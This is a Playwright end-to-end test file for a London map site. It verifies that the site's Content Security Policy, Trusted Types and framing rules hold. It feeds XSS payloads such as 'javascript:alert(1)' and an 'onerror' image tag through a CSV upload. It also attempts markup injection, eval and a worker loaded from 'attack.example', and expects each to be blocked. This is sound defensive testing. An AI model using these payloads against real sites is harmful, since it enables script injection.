import { mkdtempSync, writeFileSync } from "node:fs";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, onTestFinished } from "vitest";
import { createStaticServer } from "../../src/pipeline/static-server.ts";
import { createTest, type Journey } from "./journey.ts";
import { PATIENCE, say } from "./sentences.ts";
import { serveFolder } from "./serve.ts";
import { DIST } from "./site.ts";

const PREFIX = "/maps/london/";

/** A folder served with the headers that a host is told to send. */
async function serveWithHeaders(root: string): Promise<{ readonly address: string; close(): Promise<void> }> {
  const server = createStaticServer({ root, prefix: PREFIX });
  await new Promise<void>((done) => {
    server.listen(0, "127.0.0.1", done);
  });
  return {
    address: `http://127.0.0.1:${(server.address() as AddressInfo).port}${PREFIX}`,
    close: () =>
      new Promise((done) => {
        server.close(() => done());
        server.closeAllConnections();
      }),
  };
}

let served: Awaited<ReturnType<typeof serveWithHeaders>>;
beforeAll(async () => {
  served = await serveWithHeaders(DIST);
});
afterAll(() => served.close());

const test = createTest(() => served.address);

/** Makes an error of the console, which fails the journey, of whatever the policy turns away. */
const WATCH = `addEventListener("securitypolicyviolation", (event) => {
  console.error("policy: " + event.effectiveDirective + " " + event.blockedURI + " " + event.sample);
});`;

const LIST = "name,borough,website\nTea at Three,Camden,javascript:alert(1)\n<img src=x onerror=alert(1)>,Camden,\n";

async function goTo(page: Page, journey: Journey, fragment: string): Promise<void> {
  await page.goto(`${journey.site}${fragment}`);
  await page.locator("h1").first().waitFor(PATIENCE);
}

describe("served with its strict headers", () => {
  test("the page, its map and its workers do all they do, and nothing is turned away", async ({ journey }) => {
    const page = await journey.open("", { map: true, watch: WATCH });
    await page.locator(".maplibregl-canvas").waitFor(PATIENCE);
    await page.waitForLoadState("networkidle");
    await page.getByLabel(say["overlay.label"]).selectOption({ index: 1 });
    await page.getByLabel(say["search.what"]).fill("tea");
    await page.getByLabel(say["search.what"]).press("Enter");
    await page.waitForLoadState("networkidle");
    await goTo(page, journey, "#/equity");
    await page.waitForLoadState("networkidle");
    await goTo(page, journey, "#/about");
    await goTo(page, journey, "#/ask");
    await goTo(page, journey, "#/embed");
    await goTo(page, journey, "#/shortlist");
    await goTo(page, journey, "#/check");
    await page
      .locator('input[type="file"]')
      .setInputFiles({ name: "list.csv", mimeType: "text/csv", buffer: Buffer.from(LIST) });
    await page.getByRole("button", { name: say["check.start"] }).click();
    await page.getByText("Tea at Three").first().waitFor(PATIENCE);
    await page.waitForLoadState("networkidle");
    const keeper = await page.evaluate<string>("navigator.serviceWorker.ready.then(({ active }) => active.scriptURL)");
    expect(keeper).toBe(`${journey.site}sw.js`);
  });

  test("plain pages and the report stand under the same policy", async ({ journey }) => {
    const page = await journey.open("borough/camden.html", { watch: WATCH });
    for (const file of ["about.html", "borough/index.html", "report.html"]) await page.goto(`${journey.site}${file}`);
    await page.goto(`${journey.site}borough/camden.html`);
    await page.locator("article a[href*='service/']").first().click();
    await page.locator("h1").waitFor();
  });

  test("a text can become neither markup nor script, and no worker starts from elsewhere", async ({ journey }) => {
    const page = await journey.open("", { watch: WATCH });
    await page
      .locator('#filters input[type="checkbox"]')
      .first()
      .waitFor({ state: "attached", ...PATIENCE });
    journey.record.announce(/policy|violates|Trusted|Content Security|turned away/i, "tried on purpose");
    const tried = await page.evaluate<Record<string, string>>(`(() => {
      const tries = {
        markup: () => { document.createElement("div").innerHTML = "<b>x</b>"; },
        evaluated: () => Function("return 1")(),
        worker: () => new Worker("https://attack.example/x.js"),
        workerOfData: () => new Worker("data:text/javascript,1"),
        policy: () => trustedTypes.createPolicy("other", { createHTML: (text) => text }),
        secondDefault: () => trustedTypes.createPolicy("default", { createHTML: (text) => text }),
      };
      // In a task of its own: what the debugger asks for at once is exempt from the policy.
      return new Promise((done) => setTimeout(() => done(Object.fromEntries(Object.entries(tries).map(([name, run]) => {
        try { run(); return [name, "ran"]; } catch (error) { return [name, error.name]; }
      })))));
    })()`);
    expect(Object.entries(tried).filter(([, outcome]) => outcome === "ran")).toEqual([]);
    await page.evaluate(`(() => {
      const script = document.createElement("script");
      try { script.textContent = "window.ran = true"; document.body.append(script); } catch {}
    })()`);
    expect(await page.evaluate("window.ran")).toBeUndefined();
  });
});

describe("another site that puts the page into a frame", () => {
  async function framed(journey: Journey, address: string): Promise<boolean> {
    const folder = mkdtempSync(join(tmpdir(), "framing-"));
    writeFileSync(
      join(folder, "index.html"),
      `<!doctype html><title>Another</title><link rel="icon" href="data:,"><iframe src="${address}"></iframe>`,
    );
    const other = await serveFolder(folder, "/");
    onTestFinished(other.close);
    const page = await journey.open("about:blank");
    journey.record.announce(/./, "another site's page, whose frame may be refused");
    await page.goto(other.address);
    await page.waitForLoadState("networkidle");
    return page.frames().some((frame) => frame.url().startsWith(address));
  }

  test("gets nothing unless the publisher has named it", async ({ journey }) => {
    expect(await framed(journey, `${journey.site}about.html`)).toBe(false);
  });

  test("gets the page if the publisher has", async ({ journey }) => {
    const folder = mkdtempSync(join(tmpdir(), "framed-"));
    writeFileSync(join(folder, "index.html"), "<!doctype html><title>Map</title><h1>Map</h1>");
    const publication = { sources: [], embed: { allowedAncestors: ["http://127.0.0.1:*"] } };
    writeFileSync(join(folder, "publication.json"), JSON.stringify(publication));
    const site = await serveWithHeaders(folder);
    onTestFinished(site.close);
    expect(await framed(journey, site.address)).toBe(true);
  });
});
